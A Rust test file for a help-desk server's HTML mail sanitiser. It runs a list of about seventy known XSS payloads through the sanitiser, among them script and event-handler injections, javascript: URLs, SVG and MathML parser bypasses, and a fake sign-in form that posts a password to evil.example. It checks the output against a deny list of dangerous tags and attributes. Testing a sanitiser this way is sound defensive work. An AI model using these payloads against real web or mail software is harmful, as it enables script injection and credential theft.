//! Showing a mail's HTML: harmless, whatever it holds.

use proptest::prelude::*;
use sportello_domain::formatted::{FormattedText, Line, LineKind, Span};
use sportello_domain::id::AttachmentId;
use sportello_domain::message::Body;
use sportello_domain::testing::T0;
use sportello_server::mail::html::{InlineFiles, RemoteImages, sanitise, show};

fn picture() -> AttachmentId {
    AttachmentId::generate(T0, [7; 10])
}

fn files() -> InlineFiles {
    InlineFiles::from([("shot@customer.example".to_owned(), picture())])
}

fn blocked(html: &str) -> String {
    sanitise(html, &files(), RemoteImages::Blocked).0
}

/// Attacks from the public collections for web mail (OWASP, html5sec, Cure53) and from the advisories
/// of other help desks.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\" target=_self>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<video poster=\"javascript:alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<td background=\"https://evil.example/x.png\">",
    "<div style=\"background-image: url(javascript:alert(1))\">",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<div style=\"width: expression(alert(1))\">",
    "<div style=\"behavior:url(#default#time2)\">",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">over everything</div>",
    "<div style=\"color:red;}</style><script>alert(1)</script>\">",
    "<p id=cookie name=getElementById class=toolbar>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a href=\"/api/v1/session\">x</a>",
    "<img src=\"/api/v1/attachments/0195563e-0000-7000-8000-000000000000\">",
    "<img srcset=\"https://evil.example/x.png 2x\">",
    "<img src=\"cid:unknown\">",
    "<a href=\"https://good.example\" ping=\"https://evil.example\" onclick=alert(1)>x</a>",
    "<x/onclick=alert(1)>a</x>",
    "\"><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=\"livescript:alert(1)\">",
    "<b <script>alert(1)</script>0",
];

/// What must not be in any sanitised HTML, outside of its text.
const NEVER: &[&str] = &[
    "<script",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<svg",
    "<math",
    "<link",
    "<meta",
    "<base",
    "<template",
    "<select",
    "<textarea",
    "<video",
    "<audio",
    "<x",
    "<!--",
    "<?",
    "<body",
];

/// The attributes in some sanitised HTML: there `<`, `>` and `"` stand only where they mean something.
fn attributes(html: &str) -> Vec<(&str, &str)> {
    let tags = html.split('<').skip(1).filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag));
    let attributes =
        tags.filter_map(|tag| tag.split_once(' ')).flat_map(|(_, attributes)| attributes.split("\" "));
    attributes.filter_map(|attribute| attribute.trim_end_matches('"').split_once("=\"")).collect()
}

fn check_harmless(attack: &str, clean: &str) {
    let lower = clean.to_lowercase();
    for never in NEVER {
        assert!(!lower.contains(never), "{attack:?} became {clean:?}");
    }
    for (name, value) in attributes(&lower) {
        let starts = |starts: &[&str]| starts.iter().any(|start| value.starts_with(start));
        let harmless = match name {
            "src" => starts(&["/api/v1/attachments/", "data:image/png", "http://", "https://"]),
            "href" => starts(&["http:", "https:", "mailto:", "tel:"]),
            "style" => !["url", "expression", "position", "behavior", "binding", "javascript"]
                .iter()
                .any(|part| value.contains(part)),
            "target" => value == "_blank",
            _ => {
                !name.starts_with("on")
                    && !["id", "class", "name", "srcset", "ping", "action", "background", "poster"]
                        .contains(&name)
            }
        };
        assert!(harmless, "{attack:?} became {clean:?}");
    }
}

#[test]
fn known_attacks_become_harmless() {
    for attack in ATTACKS {
        for images in [RemoteImages::Blocked, RemoteImages::Loaded] {
            let (clean, _) = sanitise(attack, &files(), images);
            check_harmless(attack, &clean);
            assert!(images == RemoteImages::Loaded || !clean.contains("<img src=\"http"), "{attack:?}");
        }
        let wrapped = format!("<div><table><tr><td>{attack}</td></tr></table></div>");
        check_harmless(attack, &blocked(&wrapped));
    }
}

#[test]
fn what_letters_are_made_of_stays() {
    let letter = "<h1 style=\"color:rgb(200, 0, 0);font-weight:bold\">Hi</h1><p align=\"center\">A <b>bold</b> word</p>\
                  <ul><li>one</li></ul><table bgcolor=\"#eeeeee\" cellpadding=\"4\"><tbody><tr><td colspan=\"2\">1\
                  </td></tr></tbody></table><blockquote>quoted</blockquote>";

    assert_eq!(blocked(letter), letter);
}

#[test]
fn links_open_elsewhere_and_tell_nothing() {
    assert_eq!(
        blocked("<a href=\"https://shop.example/a?b=1&amp;c\" target=\"_self\">shop</a>"),
        "<a href=\"https://shop.example/a?b=1&amp;c\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">shop</a>"
    );
}

#[test]
fn pictures_of_the_mail_are_shown_from_here() {
    let expected = format!("<img src=\"/api/v1/attachments/{}\" alt=\"the error\">", picture());

    assert_eq!(blocked("<img src=\"cid:shot@customer.example\" alt=\"the error\">"), expected);
    assert_eq!(blocked("<img src=\"CID:shot%40customer.example\" alt=\"the error\">"), expected);
}

#[test]
fn pictures_from_elsewhere_wait_until_asked_for() {
    let html =
        "<img src=\"https://tracker.example/1.gif\" alt=\"a cat\"><img src=\"HTTP://tracker.example/2.gif\">";

    assert_eq!(sanitise(html, &files(), RemoteImages::Blocked), ("<img alt=\"a cat\"><img>".to_owned(), 2));
    let (loaded, none) = sanitise(html, &files(), RemoteImages::Loaded);
    assert!(loaded.contains("src=\"https://tracker.example/1.gif\""), "{loaded}");
    assert_eq!(none, 0);
}

#[test]
fn the_document_is_whole_and_counts_blocked_pictures() {
    let body = Body {
        text: "text".to_owned(),
        html: Some("<p>Hi<img src=https://a.example/x>".to_owned()),
        ..Body::default()
    };

    let shown = show(&body, &files(), RemoteImages::Blocked);

    assert_eq!(shown.blocked_images, 1);
    assert!(shown.document.starts_with("<!doctype html><html><head><meta charset=\"utf-8\">"));
    assert!(shown.document.ends_with("<body data-blocked-images=\"1\"><p>Hi<img></p></body></html>"));
}

#[test]
fn a_message_without_html_is_shown_as_text() {
    let body = Body { text: "1 < 2 & <b>".to_owned(), ..Body::default() };

    let shown = show(&body, &files(), RemoteImages::Blocked);

    assert!(
        shown.document.contains("<div class=\"text\">1 &lt; 2 &amp; &lt;b&gt;</div>"),
        "{}",
        shown.document
    );
}

/// XCT-08
#[test]
fn what_was_written_here_is_shown_with_its_formatting() {
    let code = Span { code: true, ..Span::plain("<img src=x>") };
    let text = FormattedText::of_lines([Line { kind: LineKind::Quote, spans: vec![code] }]);
    let body = Body { text: text.to_text(), html: None, formatted: Some(text) };

    let shown = show(&body, &files(), RemoteImages::Blocked);

    let expected = "<blockquote><div><code>&lt;img src=x&gt;</code></div></blockquote></body>";
    assert!(shown.document.contains(expected), "{}", shown.document);
}

/// A mark in the middle stands first once what was before it is gone, and the browser takes it away.
#[test]
fn a_byte_order_mark_is_not_left_in_front() {
    assert_eq!(blocked("<script>alert(1)</script>\u{feff}\u{feff}Hi"), "Hi");
    assert_eq!(blocked("Hi\u{feff}"), "Hi\u{feff}");
}

/// HTML so deep that it would take minutes is shown as text at once.
#[test]
fn deep_html_is_shown_as_text() {
    let body = Body {
        text: "words".to_owned(),
        html: Some(format!("{}words", "<div>".repeat(200_000))),
        ..Body::default()
    };

    assert!(
        show(&body, &files(), RemoteImages::Blocked).document.contains("<div class=\"text\">words</div>")
    );
}

/// Pieces of HTML, of attacks and of nothing, in any order.
fn scrambled() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(ATTACKS).prop_map(str::to_owned),
        2 => prop::sample::select(vec![
            "<", ">", "\"", "'", "=", "/", "&", "&lt;", "&#x3c;", "<p", "<a href=", "<img src=", "style=\"", "</p>",
            "</a>", "<table>", "<tr>", "<td>", "</table>", "cid:shot@customer.example", "https://evil.example/",
            "javascript:", "<!--", "-->", "\u{0}", "\n",
        ]).prop_map(str::to_owned),
        1 => ".{0,12}",
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

/// The HTML with the attributes of each tag in order.
fn in_order(html: &str) -> String {
    let tag = |rest: &str| match rest.split_once('>') {
        Some((tag, text)) => {
            let mut attributes: Vec<&str> = tag.split("\" ").map(|part| part.trim_end_matches('"')).collect();
            if let Some((name, first)) = attributes[0].split_once(' ') {
                attributes[0] = first;
                attributes.sort_unstable();
                attributes.insert(0, name);
            }
            format!("{}>{text}", attributes.join("|"))
        }
        None => rest.to_owned(),
    };
    html.split('<').map(tag).collect::<Vec<_>>().join("<")
}

proptest! {
    #[test]
    fn sanitising_again_changes_nothing(html in scrambled()) {
        let once = blocked(&html);
        prop_assert_eq!(in_order(&blocked(&once)), in_order(&once), "{:?}", once);
    }

    #[test]
    fn nothing_scrambled_is_harmful(html in scrambled()) {
        check_harmless(&html, &blocked(&html));
    }
}
